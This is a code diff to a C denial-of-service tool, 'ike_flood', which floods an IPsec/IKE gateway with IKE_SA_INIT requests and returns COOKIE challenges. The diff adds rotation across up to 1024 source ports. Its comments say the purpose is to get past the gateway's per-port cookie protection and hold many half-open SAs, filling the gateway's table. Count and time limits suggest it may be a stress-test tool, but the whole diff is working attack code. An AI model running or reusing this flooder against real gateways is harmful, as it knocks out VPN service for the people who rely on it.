@@ -3,7 +3,8 @@
  * Sends COUNT well-formed IKE_SA_INIT requests (each with its own random
  * initiator SPI, X25519 KE value and nonce; proposal AES-GCM-16-128,
  * PRF-HMAC-SHA2-256, Curve25519) to DST:PORT as fast as the socket takes
- * them, in sendmmsg batches, from one UDP socket. It reads the answers while
+ * them, in sendmmsg batches, from one UDP socket (-s: from SOCKETS sockets,
+ * each its own source port, a batch each in turn). It reads the answers while
  * it sends and for a short while after, and reports how many were real
  * IKE_SA_INIT responses (with a KE payload) and how many were COOKIE
  * challenges. Bounded in count (-n) and in time (-t).
@@ -15,8 +16,13 @@
  * request the gateway then accepts stays half-open until it expires. -r
  * sends at most RATE new requests per second (default: as fast as the
  * socket takes them), so a flood can hold the gateway's table for a while.
+ * A COOKIE binds the source port (and the gateway keeps one half-open SA
+ * per port that proved one), so a host that means to hold many half-open
+ * SAs sends from many ports: -s.
  *
  * usage: ike_flood -d DST [-p PORT] [-n COUNT] [-t SECONDS] [-b SRC_PORT] [-c] [-r RATE]
+ *                  [-s SOCKETS]
+ * (-b with -s: ports SRC_PORT, SRC_PORT + 1, ...)
  * prints: sent=N answers=N real=N cookie=N other=N seconds=F, and with -c
  * returned=N (COOKIEs sent back) */
 #include <arpa/inet.h>
@@ -34,6 +40,7 @@
 
 #define BATCH 64
 #define MSG_MAX 256
+#define MAX_SOCKETS 1024
 
 static double now_s(void)
 {
@@ -182,24 +189,26 @@ struct tally {
     unsigned long answers, real, cookie, other, returned;
 };
 
-/* -c: the socket and gateway to send the requests with cookies to. */
-static int follow_fd = -1;
+/* -c: return COOKIEs to this gateway. */
+static bool follow;
 static struct sockaddr_in follow_to;
 
-/* The request of SPIi m[0..7] again with the COOKIE (-c). */
-static void return_cookie(const uint8_t *m, const uint8_t *cookie, size_t len, struct tally *t)
+/* The request of SPIi m[0..7] again with the COOKIE (-c), from the socket
+ * fd the COOKIE came to. */
+static void return_cookie(int fd, const uint8_t *m, const uint8_t *cookie, size_t len,
+                          struct tally *t)
 {
     uint8_t req[MSG_MAX + 128];
     if (len == 0 || len > 64) /* 2.6: 1 to 64 bytes */
         return;
     size_t n = build_init(req, m, cookie, len);
-    if (sendto(follow_fd, req, n, 0, (struct sockaddr *)&follow_to, sizeof(follow_to)) ==
-        (ssize_t)n)
+    if (sendto(fd, req, n, 0, (struct sockaddr *)&follow_to, sizeof(follow_to)) == (ssize_t)n)
         t->returned++;
 }
 
-/* Classifies one answer by walking its payload chain (bounds-checked). */
-static void classify(const uint8_t *m, size_t len, struct tally *t)
+/* Classifies one answer (that came to socket fd) by walking its payload
+ * chain (bounds-checked). */
+static void classify(int fd, const uint8_t *m, size_t len, struct tally *t)
 {
     t->answers++;
     if (len < 28 || m[18] != 34 || !(m[19] & 0x20)) {
@@ -220,8 +229,8 @@ static void classify(const uint8_t *m, size_t len, struct tally *t)
             unsigned type = ((unsigned)m[o + 6] << 8) | m[o + 7];
             if (type == 16390) {
                 t->cookie++;
-                if (follow_fd >= 0)
-                    return_cookie(m, m + o + 8, plen - 8, t);
+                if (follow)
+                    return_cookie(fd, m, m + o + 8, plen - 8, t);
                 return;
             }
         }
@@ -245,19 +254,24 @@ static void drain(int fd, struct tally *t)
         if (n <= 0)
             return;
         for (int i = 0; i < n; i++)
-            classify(bufs[i], msgs[i].msg_len, t);
+            classify(fd, bufs[i], msgs[i].msg_len, t);
     }
+}
+
+static void drain_all(const int *fds, unsigned n_fds, struct tally *t)
+{
+    for (unsigned i = 0; i < n_fds; i++)
+        drain(fds[i], t);
 }
 
 int main(int argc, char **argv)
 {
     const char *dst = NULL;
-    unsigned port = 500, src_port = 0;
+    unsigned port = 500, src_port = 0, n_fds = 1;
     unsigned long count = 10000;
     double limit = 30, rate = 0;
-    bool follow = false;
     int opt;
-    while ((opt = getopt(argc, argv, "d:p:n:t:b:cr:")) != -1) {
+    while ((opt = getopt(argc, argv, "d:p:n:t:b:cr:s:")) != -1) {
         switch (opt) {
         case 'd':
             dst = optarg;
@@ -280,15 +294,20 @@ int main(int argc, char **argv)
         case 'r':
             rate = atof(optarg);
             break;
+        case 's':
+            n_fds = (unsigned)atoi(optarg);
+            break;
         default:
             fprintf(stderr, "usage: ike_flood -d DST [-p PORT] [-n COUNT] [-t SECONDS] [-b SRC] "
-                            "[-c] [-r RATE]\n");
+                            "[-c] [-r RATE] [-s SOCKETS]\n");
             return 2;
         }
     }
-    if (!dst || count == 0 || count > 1000000 || limit <= 0 || limit > 600 || rate < 0) {
+    if (!dst || count == 0 || count > 1000000 || limit <= 0 || limit > 600 || rate < 0 ||
+        n_fds == 0 || n_fds > MAX_SOCKETS || (src_port && src_port + n_fds - 1 > 65535)) {
         fprintf(stderr, "ike_flood: need -d DST, 0 < COUNT <= 1000000, 0 < SECONDS <= 600, "
-                        "RATE >= 0\n");
+                        "RATE >= 0, 0 < SOCKETS <= %d\n",
+                MAX_SOCKETS);
         return 2;
     }
     int ur = open("/dev/urandom", O_RDONLY);
@@ -302,25 +321,27 @@ int main(int argc, char **argv)
         fprintf(stderr, "ike_flood: bad address %s\n", dst);
         return 2;
     }
-    int fd = socket(AF_INET, SOCK_DGRAM, 0);
-    if (fd < 0) {
-        perror("socket");
-        return 1;
-    }
-    int big = 4 << 20;
-    setsockopt(fd, SOL_SOCKET, SO_RCVBUF, &big, sizeof(big));
-    if (src_port) {
-        struct sockaddr_in me = {.sin_family = AF_INET, .sin_port = htons((uint16_t)src_port)};
+    static int fds[MAX_SOCKETS];
+    for (unsigned k = 0; k < n_fds; k++) {
+        int fd = socket(AF_INET, SOCK_DGRAM, 0);
+        if (fd < 0) {
+            perror("socket");
+            return 1;
+        }
+        int big = (n_fds > 1 ? 256 : 4096) << 10;
+        setsockopt(fd, SOL_SOCKET, SO_RCVBUF, &big, sizeof(big));
+        /* Bound at once (an ephemeral port without -b), so that answers
+         * find it before its first request leaves. */
+        struct sockaddr_in me = {.sin_family = AF_INET,
+                                 .sin_port = htons((uint16_t)(src_port ? src_port + k : 0))};
         if (bind(fd, (struct sockaddr *)&me, sizeof(me)) < 0) {
             perror("bind");
             return 1;
         }
+        fds[k] = fd;
     }
-
-    if (follow) {
-        follow_fd = fd;
-        follow_to = to;
-    }
+    follow_to = to;
+    unsigned cur = 0; /* the socket of the next batch */
 
     static uint8_t msgs_buf[BATCH][MSG_MAX];
     struct mmsghdr msgs[BATCH];
@@ -335,7 +356,7 @@ int main(int argc, char **argv)
              * the COOKIEs to return) are read while waiting. */
             unsigned long due = (unsigned long)((now_s() - start) * rate) + 1;
             if (due <= sent) {
-                drain(fd, &t);
+                drain_all(fds, n_fds, &t);
                 usleep(2000);
                 continue;
             }
@@ -353,7 +374,7 @@ int main(int argc, char **argv)
                                                    .msg_iov = &iov[i],
                                                    .msg_iovlen = 1}};
         }
-        int r = sendmmsg(fd, msgs, n, 0);
+        int r = sendmmsg(fds[cur], msgs, n, 0);
         if (r < 0) {
             if (errno == EINTR || errno == ENOBUFS || errno == EAGAIN)
                 continue;
@@ -361,13 +382,14 @@ int main(int argc, char **argv)
             return 1;
         }
         sent += (unsigned long)r;
-        drain(fd, &t);
+        cur = (cur + 1) % n_fds;
+        drain_all(fds, n_fds, &t);
     }
     double send_end = now_s();
     /* Answers still in flight: collect them for up to two seconds. */
     double tail = send_end + 2;
     while (now_s() < tail && now_s() < deadline + 2) {
-        drain(fd, &t);
+        drain_all(fds, n_fds, &t);
         usleep(10000);
     }
     printf("sent=%lu answers=%lu real=%lu cookie=%lu other=%lu seconds=%.3f", sent, t.answers,
@@ -375,6 +397,7 @@ int main(int argc, char **argv)
     if (follow)
         printf(" returned=%lu", t.returned);
     printf("\n");
-    close(fd);
+    for (unsigned k = 0; k < n_fds; k++)
+        close(fds[k]);
     return sent == count ? 0 : 1;
 }
